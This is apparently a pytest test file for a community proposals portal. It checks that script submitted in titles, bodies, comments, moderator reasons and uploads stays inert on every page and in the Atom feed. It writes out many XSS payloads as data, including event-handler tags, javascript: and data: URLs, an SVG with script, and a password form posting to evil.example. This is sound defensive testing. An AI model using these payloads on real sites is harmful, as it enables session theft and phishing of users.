"""Hostile input through the real pages: script in every field a resident writes stays text on every page
that shows it (list, proposal, history, edit form, Atom feed); files that are not photos or PDFs and texts
over the limit are refused with a message, the typing kept and nothing written."""
import html as html_lib
import io
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest

from portal.audit.models import AuditEntry
from portal.extensions import db
from portal.proposals.models import (
    BODY_MAX,
    COMMENT_MAX,
    Comment,
    Proposal,
    ProposalAttachment,
    ProposalEvent,
    ProposalTerm,
    ProposalVersion,
)
from tests.proposals import gen_comment, gen_in_deliberation, gen_proposal, gen_supports
from tests.residents import post

# Every payload carries a marker, so what it would have built can be told from the page's own markup.
TITLE = """<script>alert("XSS-t")</script>"><img src=x onerror=alert('XSS-t')>{{7*7}}"""
SUMMARY = ("</textarea><svg onload=alert('XSS-s')></svg><a href=\"javascript:alert('XSS-s')\">x</a> "
           "&lt;b&gt; ]]> <!-- --> {% raw %}")
BODY = """# Plan <script>alert('XSS-b')</script>

<img src=x onerror=alert('XSS-b')>
<iframe srcdoc="<script>alert('XSS-b')</script>"></iframe>
<div hx-get="/logout" hx-trigger="load">XSS-b htmx</div>

[click me](javascript:alert('XSS-b')) [and me](JaVaScRiPt&#58;alert('XSS-b'))
<javascript:alert('XSS-b')> ![XSS-b picture](javascript:alert('XSS-b'))
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTLWInKTwvc2NyaXB0Pg==)
<a href="https://ok.example" onclick="alert('XSS-b')" style="position:fixed">styled XSS-b</a>
"""
COMMENT = """<script>alert('XSS-c')</script><img src=x onerror=alert('XSS-c')> [y](javascript:alert('XSS-c'))
"><svg/onload=alert('XSS-c')> {{ config }}"""
REPLY = """</p><form action="https://evil.example/XSS-r"><input name=password></form><base href="//evil.example/">"""
EDITED_BODY = BODY.replace("XSS-b", "XSS-e") + "\n<details open ontoggle=alert('XSS-e')>"
SEARCH = """<script>alert('XSS-q')</script>"""

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset"}
# Attributes where a resident's words may appear as data (a form field's value, a page description).
DATA_ATTRIBUTES = {"value", "content", "title", "alt", "aria-label", "placeholder", "label"}


class Page(HTMLParser):
    """The elements a browser would build from the page, their attributes and text (entities decoded)."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.elements, self.text, self.scripts, self.open_tag = [], [], [], None
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        self.open_tag = tag
        if tag == "script":
            self.scripts.append("")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        self.open_tag = None

    def handle_data(self, data):
        if self.open_tag == "script":
            self.scripts[-1] += data
        else:
            self.text.append(data)


def url_scheme(url):
    url = re.sub(r"[\t\n\r]", "", url).lstrip("".join(map(chr, range(0x21))))
    found = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", url)
    return found.group(1).lower() if found else None


def assert_inert(text, *shown):
    """No element or attribute of a payload's making; each of `shown` appears as text on the page."""
    page = Page(text)
    for tag, attrs in page.elements:
        assert tag not in ("iframe", "object", "embed", "base", "frame", "applet", "style"), (tag, attrs)
        assert not (tag == "meta" and "http-equiv" in attrs), attrs
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, attrs)
            assert not name.startswith("style"), (tag, attrs)
            if name in URL_ATTRIBUTES:
                assert url_scheme(value) in (None, "http", "https", "mailto"), (tag, attrs)
            if "XSS" in value:
                assert name in DATA_ATTRIBUTES, (tag, attrs)
        if tag == "script":
            assert attrs.get("src", "").startswith("/static/"), attrs
    assert all(not script.strip() for script in page.scripts), page.scripts
    words = "".join(page.text)
    for expected in shown:
        assert expected in words, expected
    return page


def html_of(response):
    assert response.status_code == 200, response.status_code
    return response.get_data(as_text=True)


def proposal_form(world, **overrides):
    data = {"title": "Benches for the garden", "summary": "Two benches near the pond.",
            "body": "We would like two benches.", "category": "facilities", "estimated_cost": "",
            "publish": "1"}
    data.update(overrides)
    return data


def hostile_proposal(client, auth, world):
    """Written through the pages: the proposal, then (in consultation) a comment and a reply, then an edit."""
    auth.login(world.reporter)
    response = post(client, "/c/x/proposals/new", proposal_form(world, title=TITLE, summary=SUMMARY, body=BODY),
                    token_from="/c/x/proposals/new")
    assert response.status_code == 302, response.get_data(as_text=True)[:3000]
    proposal = db.session.scalar(db.select(Proposal))
    assert proposal.title == TITLE
    gen_supports(world, proposal, 3)
    db.session.commit()
    auth.logout()
    auth.login(world.neighbour)
    page = f"/c/x/proposals/{proposal.id}"
    assert post(client, f"{page}/comments", {"stance": "against", "body": COMMENT}, token_from=page).status_code == 302
    top = db.session.scalar(db.select(Comment))
    assert post(client, f"{page}/comments", {"stance": "for", "body": REPLY, "parent_id": top.id},
                token_from=page).status_code == 302
    auth.logout()
    auth.login(world.reporter)
    edited = post(client, f"{page}/edit", proposal_form(world, title=TITLE.replace("XSS-t", "XSS-u"),
                                                         summary=SUMMARY, body=EDITED_BODY, note="<b>XSS-n</b>"),
                  token_from=f"{page}/edit")
    assert edited.status_code == 302
    db.session.expire_all()
    return db.session.get(Proposal, proposal.id)


# --- script stays text -------------------------------------------------------------------------------------

def test_script_in_every_field_stays_text_on_every_page(client, auth, world):
    proposal = hostile_proposal(client, auth, world)
    assert proposal.version == 2
    new_title = TITLE.replace("XSS-t", "XSS-u")
    page = f"/c/x/proposals/{proposal.id}"
    for viewer in (None, world.neighbour, world.member_x):
        auth.logout()
        if viewer:
            auth.login(viewer)
        assert_inert(html_of(client.get("/c/x/proposals")), new_title)
        assert_inert(html_of(client.get(f"/c/x/proposals?q={SEARCH}")))
        detail = assert_inert(html_of(client.get(page)), new_title, "<script>alert('XSS-c')</script>",
                              '<form action="https://evil.example/XSS-r">', "XSS-e htmx", "{{ config }}")
        assert not any(tag == "a" and "javascript" in attrs.get("href", "").lower()
                       for tag, attrs in detail.elements)
        assert_inert(html_of(client.get(f"{page}/history")), "XSS-b", "XSS-e")
        assert_inert(html_of(client.get(f"{page}?sort=liked")), "XSS-c")
    auth.logout()
    auth.login(world.reporter)
    form = assert_inert(html_of(client.get(f"{page}/edit")))
    assert any(attrs.get("value") == new_title for tag, attrs in form.elements if tag == "input")
    assert SUMMARY in "".join(form.text)  # the </textarea> inside stayed text inside the textarea


def test_the_feed_is_well_formed_and_carries_text_not_markup(client, auth, world):
    hostile_proposal(client, auth, world)
    response = client.get("/c/x/proposals.atom")
    assert response.status_code == 200 and response.mimetype == "application/atom+xml"
    feed = ET.fromstring(response.data)
    ns = {"a": "http://www.w3.org/2005/Atom"}
    entry = feed.find("a:entry", ns)
    assert entry.find("a:title", ns).text == TITLE.replace("XSS-t", "XSS-u")
    for element in feed.iter():
        if element.get("type") in ("html", "xhtml"):  # readers render these as HTML: it must be inert
            assert_inert(element.text or "")
        for name, value in element.attrib.items():
            if name == "href":
                assert url_scheme(value) in ("http", "https")


def test_control_characters_do_not_break_the_feed(client, auth, world):
    auth.login(world.reporter)
    response = post(client, "/c/x/proposals/new",
                    proposal_form(world, title="Lift \x1b[31mnow\x0b", summary="Bell\x07 and form feed\x0c"),
                    token_from="/c/x/proposals/new")
    assert response.status_code in (200, 302)
    feed = client.get("/c/x/proposals.atom")
    ET.fromstring(feed.data)  # well-formed XML whatever the resident pasted


def test_moderators_reasons_and_comment_history_stay_text(client, auth, world):
    from portal.moderation import services as moderation
    proposal = gen_in_deliberation(world)
    comment = gen_comment(world, proposal, body="fine words")
    moderation.hide(world.member_x, "comment", comment, "<img src=x onerror=alert('XSS-m')>")
    db.session.commit()
    page = f"/c/x/proposals/{proposal.id}"
    auth.login(world.neighbour)
    assert_inert(html_of(client.get(page)), "<img src=x onerror=alert('XSS-m')>")
    auth.logout()
    auth.login(world.chair_x)
    assert_inert(html_of(client.get(page)), "<img src=x onerror=alert('XSS-m')>")
    assert_inert(html_of(client.get(f"{page}/comments/{comment.id}/history")))


# --- refused with a message, typing kept, nothing written --------------------------------------------------

def nothing_written(upload_dir):
    for model in (Proposal, ProposalTerm, ProposalEvent, ProposalVersion, ProposalAttachment):
        assert db.session.scalar(db.select(db.func.count()).select_from(model)) == 0, model.__name__
    assert db.session.scalar(db.select(db.func.count()).select_from(AuditEntry)
                             .where(AuditEntry.action.like("proposal%"))) == 0
    folder = upload_dir / "proposals"
    assert not folder.exists() or list(folder.iterdir()) == []


def field_error(page, field):
    found = re.search(rf'id="{field}-error"[^>]*>(.*?)</p>', page, re.S)
    assert found, f"no error shown for {field}"
    return html_lib.unescape(found.group(1))


SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b"<script>alert(document.domain)</script></svg>")


@pytest.mark.parametrize("data, filename", [
    (SVG, "photo.png"), (SVG, "plan.svg"), (b"<html><script>alert(1)</script></html>", "budget.pdf"),
])
def test_a_file_that_is_not_a_photo_or_pdf_is_refused_and_nothing_is_written(client, auth, world, upload_dir,
                                                                                data, filename):
    auth.login(world.reporter)
    form = proposal_form(world, title="Typed title stays", body="Typed body stays")
    form["attachments"] = [(io.BytesIO(data), filename)]
    response = post(client, "/c/x/proposals/new", form, token_from="/c/x/proposals/new",
                    content_type="multipart/form-data")
    page = html_of(response)
    assert "neither a photo nor a PDF" in field_error(page, "attachments")
    assert filename in field_error(page, "attachments")
    assert 'value="Typed title stays"' in page and "Typed body stays" in page
    nothing_written(upload_dir)


def test_a_good_photo_with_a_bad_file_writes_neither(client, auth, world, upload_dir):
    from tests.issues.test_photos import phone_jpeg
    auth.login(world.reporter)
    form = proposal_form(world)
    form["attachments"] = [(io.BytesIO(phone_jpeg()), "gate.jpg"), (io.BytesIO(SVG), "drawing.png")]
    response = post(client, "/c/x/proposals/new", form, token_from="/c/x/proposals/new",
                    content_type="multipart/form-data")
    assert "drawing.png" in field_error(html_of(response), "attachments")
    nothing_written(upload_dir)


def test_a_body_over_the_limit_is_refused_with_the_typing_kept(client, auth, world, upload_dir):
    auth.login(world.reporter)
    body = "议" * BODY_MAX + "TYPED-END"
    response = post(client, "/c/x/proposals/new", proposal_form(world, body=body), token_from="/c/x/proposals/new")
    page = html_of(response)
    message = field_error(page, "body")
    assert re.search(r"20[,.\s]?000", message), message
    assert "TYPED-END" in page and 'value="Benches for the garden"' in page
    nothing_written(upload_dir)


def test_an_edit_with_a_bad_file_changes_nothing(client, auth, world, upload_dir):
    proposal = gen_proposal(world)
    db.session.commit()
    before = (proposal.version, proposal.title, proposal.body)
    auth.login(world.reporter)
    page = f"/c/x/proposals/{proposal.id}/edit"
    form = proposal_form(world, title="A new title", body="A new body")
    form.pop("publish")
    form["attachments"] = [(io.BytesIO(SVG), "map.png")]
    response = post(client, page, form, token_from=page, content_type="multipart/form-data")
    assert "map.png" in field_error(html_of(response), "attachments")
    assert 'value="A new title"' in html_of(response)
    db.session.expire_all()
    proposal = db.session.get(Proposal, proposal.id)
    assert (proposal.version, proposal.title, proposal.body) == before
    assert db.session.scalar(db.select(db.func.count()).select_from(ProposalAttachment)) == 0
    assert db.session.scalar(db.select(db.func.count()).select_from(ProposalVersion)) == 1


def test_a_comment_over_the_limit_is_refused_with_the_typing_kept(client, auth, world):
    proposal = gen_in_deliberation(world)
    db.session.commit()
    auth.login(world.neighbour)
    page = f"/c/x/proposals/{proposal.id}"
    body = "x" * COMMENT_MAX + "TYPED-END"
    response = post(client, f"{page}/comments", {"stance": "for", "body": body}, token_from=page)
    assert response.status_code in (200, 422)
    assert "TYPED-END" in response.get_data(as_text=True)
    assert db.session.scalar(db.select(db.func.count()).select_from(Comment)) == 0
    db.session.expire_all()
    assert db.session.get(Proposal, proposal.id).comment_count == 0


def test_a_huge_form_is_stopped_before_it_is_read(app, client, auth, world):
    auth.login(world.reporter)
    too_much = "x" * (app.config["MAX_PHOTO_REQUEST_LENGTH"] + 1)
    response = post(client, "/c/x/proposals/new", proposal_form(world, body=too_much),
                    token_from="/c/x/proposals/new")
    assert response.status_code == 413
    assert db.session.scalar(db.select(db.func.count()).select_from(Proposal)) == 0
